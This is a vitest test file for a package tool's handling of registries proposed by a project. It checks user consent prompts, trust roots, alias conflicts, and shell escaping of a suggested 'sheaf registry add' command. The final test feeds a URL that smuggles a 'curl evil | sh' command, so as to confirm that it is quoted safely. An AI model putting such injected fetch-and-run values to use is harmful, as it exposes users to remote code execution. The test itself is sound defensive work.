import { beforeEach, describe, expect, it } from 'vitest';
import type { ProposedRegistry } from '../../core/formats/project-file.ts';
import { type MemoryPorts, memoryPorts, memorySource, RegistrySimulator } from '../../testkit/index.ts';
import { configuredRegistries } from './configured-registries.ts';
import { decideOnProposals } from './proposed-registries.ts';

const URL = 'https://plugins.example/';

let registry: RegistrySimulator;
let asked: string[];

beforeEach(async () => {
  registry = new RegistrySimulator();
  await registry.publish();
  asked = [];
});

/** A client that notes which addresses it opens. */
function client(answer: 'yes' | 'no' | 'nobody', more: { readonly offline?: boolean } = {}): MemoryPorts {
  const open = (url: string): ReturnType<typeof memorySource> => {
    asked.push(url);
    return memorySource(registry.published, url);
  };
  return memoryPorts(registry.now, open, { answer, ...more });
}

const proposal = (more: Partial<ProposedRegistry> = {}): ProposedRegistry => ({
  alias: 'theirs',
  id: 'simulated',
  urls: [URL],
  root: registry.rootId,
  ...more,
});

const decide = (ports: MemoryPorts, proposals: readonly ProposedRegistry[], dryRun = false): Promise<void> =>
  decideOnProposals(ports, { registries: proposals }, { dryRun });

describe('a registry that a project proposes', () => {
  it('is neither contacted nor believed while nobody can be asked; the command that decides is named', async () => {
    const ports = client('nobody');
    await expect(decide(ports, [proposal()])).rejects.toMatchObject({
      code: 'SHEAF_UNKNOWN_REGISTRY',
      message: 'This project proposes registry simulated, which nobody here has agreed to yet.',
      hint: `If you trust whoever runs it: sheaf registry add ${URL} --root sha256:${registry.rootId}.`,
    });
    expect(asked).toEqual([]);
    expect(ports.user.config).toBeUndefined();
    expect(ports.user.trust.size).toBe(0);
  });

  it('is added when a person agrees twice, before its address is asked and with its keys in sight', async () => {
    const ports = client('yes');
    await decide(ports, [proposal()]);
    expect(ports.prompt.questions).toEqual([
      `This project proposes registry simulated at "${URL}". Contact that address and show its keys?`,
      expect.stringContaining('Trust registry simulated?'),
    ]);
    expect(ports.reporter.notes.join('\n')).toMatch(/2 of these keys decide.*SHA256:/s);
    expect(await configuredRegistries(ports)).toMatchObject([{ alias: 'theirs', id: 'simulated' }]);
    await decide(client('nobody'), []);
    await decide(ports, [proposal({ alias: 'again' })]);
    expect(ports.prompt.questions).toHaveLength(2);
  });

  it('is left alone when the answer is no, in a dry run and without a network', async () => {
    await expect(decide(client('no'), [proposal()])).rejects.toMatchObject({ code: 'SHEAF_CANCELLED' });
    for (const [ports, dryRun] of [
      [client('yes'), true],
      [client('yes', { offline: true }), false],
    ] as const) {
      await expect(decide(ports, [proposal()], dryRun)).rejects.toMatchObject({
        code: 'SHEAF_UNKNOWN_REGISTRY',
      });
      expect(ports.prompt.questions).toEqual([]);
    }
    expect(asked).toEqual([]);
  });

  it('cannot pass under the name of another, or with another root than the project names', async () => {
    await expect(decide(client('yes'), [proposal({ id: 'trusted-name' })])).rejects.toMatchObject({
      code: 'SHEAF_ROOT',
      message: expect.stringContaining('but the one at https://plugins.example/ is simulated'),
    });
    const root = new RegistrySimulator({ maintainers: ['mallory'], threshold: 1 }).rootId;
    await expect(decide(client('yes'), [proposal({ root })])).rejects.toMatchObject({ code: 'SHEAF_ROOT' });
  });

  it('does not take the alias of one that is there', async () => {
    const other = new RegistrySimulator({ id: 'other' });
    await other.publish();
    const ports = memoryPorts(
      registry.now,
      (url) => memorySource((url === URL ? registry : other).published, url),
      { answer: 'yes' },
    );
    await decide(ports, [
      proposal(),
      proposal({ id: 'other', urls: ['https://o.example/'], root: other.rootId }),
    ]);
    expect((await configuredRegistries(ports)).map(({ alias }) => alias)).toEqual(['theirs', 'other']);
  });

  it('cannot slip anything else into the command that is named', async () => {
    const url = "https://x.example/'; curl evil | sh; '";
    await expect(decide(client('nobody'), [proposal({ urls: [url] })])).rejects.toMatchObject({
      hint: expect.stringContaining(`add 'https://x.example/'\\''; curl evil | sh; '\\''' --root`),
    });
  });
});
